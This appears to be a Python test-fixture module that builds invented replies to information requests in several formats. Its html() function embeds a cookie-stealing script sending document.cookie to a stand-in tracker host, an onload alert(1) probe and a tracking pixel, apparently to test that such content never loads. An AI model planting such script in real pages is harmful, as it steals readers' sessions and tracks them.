"""What stands in a reply: greeting, answers in one of several shapes, signature, the letter quoted."""

from __future__ import annotations

from email.utils import format_datetime
from html import escape
from itertools import groupby

from tests.worlds.wickmark.bodies import REFERENCES, InventedBody, body
from tests.worlds.wickmark.letters import letter_text, questions, reply_address, sent_at, subject, wrap
from tests.worlds.wickmark.scripts import Answer, Script

REVIEW = (
    "If you are not content with this response you may ask for an internal review within forty working "
    "days, and after that complain to the Information Commissioner."
)


def grouped(answers: tuple[Answer, ...]) -> list[tuple[str, str]]:
    """Runs of answers that share their words, as (label, words): ("Questions 2 to 4", "...")."""
    runs = []
    for words, run in groupby(answers, key=lambda each: each.text):
        numbers = [each.question for each in run]
        label = f"Question {numbers[0]}" if len(numbers) == 1 else f"Questions {numbers[0]} to {numbers[-1]}"
        runs.append((label, words))
    return runs


def signature(sender: InventedBody) -> str:
    """A role and an office; no person signs in Wickmark."""
    return f"Yours sincerely,\n\n{sender.team}\n{sender.name}\nTelephone 01632 960{len(sender.key):03d}"


def paragraphs(script: Script) -> list[str]:
    """The letter of the reply as paragraphs: labelled answers between opening and closing."""
    lines = [script.opening]
    for label, words in grouped(script.answers):
        lines += [label, words]
    return [*lines, *([script.closing] if script.closing else []), REVIEW]


def plain(script: Script) -> str:
    """Labelled answers, then the signature, then our letter quoted below the line."""
    return _letter(script, "\n\n".join(paragraphs(script)))


def prose(script: Script) -> str:
    """The answers run together as prose, without their numbers."""
    said = "\n\n".join(words for _, words in grouped(script.answers))
    return _letter(script, f"{script.opening}\n\n{said}\n\n{REVIEW}")


def restated(script: Script) -> str:
    """Each question said again, with its answer under it."""
    asked = questions()
    said = "\n\n".join(f"{each.question}. {asked[each.question]}\n\n{each.text}" for each in script.answers)
    return _letter(script, f"{script.opening}\n\n{said}\n\n{REVIEW}")


def inline(script: Script) -> str:
    """Our letter quoted with "> ", and the answers between its lines, as Outlook users write."""
    said = {each.question: each.text for each in script.answers}
    blocks = []
    for block in letter_text(script.key).split("\n\n"):
        blocks.append("\n".join(f"> {line}" for line in block.split("\n")))
        number = block.partition(".")[0]
        if number in said:
            blocks.append(wrap(said[number]))
    head = f"On {format_datetime(sent_at(script.key))}, the lamp-post inquiry wrote:"
    sender = body(script.key)
    return "\n\n".join(["Dear Sir or Madam,", script.opening, signature(sender), head, *blocks]) + "\n"


def bilingual(script: Script) -> str:
    """The reply in two languages, the Welsh of Penlorn first."""
    welsh = "Diolch am eich cais. Mae ein hateb yn Saesneg isod."
    return f"{welsh}\n\n{plain(script)}"


def for_three(scripts: tuple[Script, ...], sender: InventedBody) -> str:
    """One letter that answers for several bodies, a section for each."""
    names = ", ".join(f"{body(each.key).name} ({REFERENCES[each.key]})" for each in scripts)
    sections = [
        f"{body(each.key).name}\n\n" + "\n\n".join(f"{a}: {b}" for a, b in grouped(each.answers))
        for each in scripts
    ]
    opening = f"We answer on behalf of our three member boards: {names}."
    said = "\n\n".join(["Dear Sir or Madam,", opening, *sections, REVIEW, signature(sender)])
    return wrap(said) + "\n"


def covering(script: Script) -> str:
    """The short mail to which a letter is attached."""
    return _letter(script, f"Please find attached our response to your request {REFERENCES[script.key]}.")


def html(script: Script) -> str:
    """The reply as a web page, with a script and a picture from elsewhere that must never load."""
    rows = "\n".join(
        f"<p><b>{label}</b></p>\n<p>{escape(words)}</p>" for label, words in grouped(script.answers)
    )
    sender = body(script.key)
    return f"""<html><head><style>p {{ font-family: Arial }}</style>
<script>document.location="https://tracker.example/steal?"+document.cookie</script></head>
<body onload="alert(1)"><p>Dear Sir or Madam,</p>
<p>{script.opening}</p>
{rows}
<p>{REVIEW}</p>
<p>Yours sincerely,<br>{sender.team}<br>{sender.name}</p>
<img src="https://tracker.example/open.gif?id=4711" width="1" height="1" alt="">
</body></html>
"""


def html_beside(script: Script) -> str:
    """The same words as the plain part, as the mailer makes them, with the office's picture."""
    lines = "\n".join(f"<p>{escape(words)}</p>" for words in paragraphs(script))
    sender = body(script.key)
    arms = f'<img src="cid:arms@{sender.domain}.example">'
    return f"<html><body>{lines}<p>{sender.team}<br>{arms}</p></body></html>\n"


def rows(script: Script) -> list[tuple[str, str, str]]:
    """The answers as table rows: number, question, answer."""
    asked = questions()
    return [(each.question, asked[each.question], each.text) for each in script.answers]


def _letter(script: Script, words: str) -> str:
    said = "\n\n".join(["Dear Sir or Madam,", words, signature(body(script.key))])
    return f"{wrap(said)}\n\n{_quoted(script.key)}"


def _quoted(key: str) -> str:
    return (
        "-----Original Message-----\n"
        f"From: The lamp-post inquiry <{reply_address(key)}>\n"
        f"Sent: {sent_at(key):%d %B %Y %H:%M}\n"
        f"To: {body(key).email}\n"
        f"Subject: {subject(key)}\n\n"
        f"{letter_text(key)}"
    )
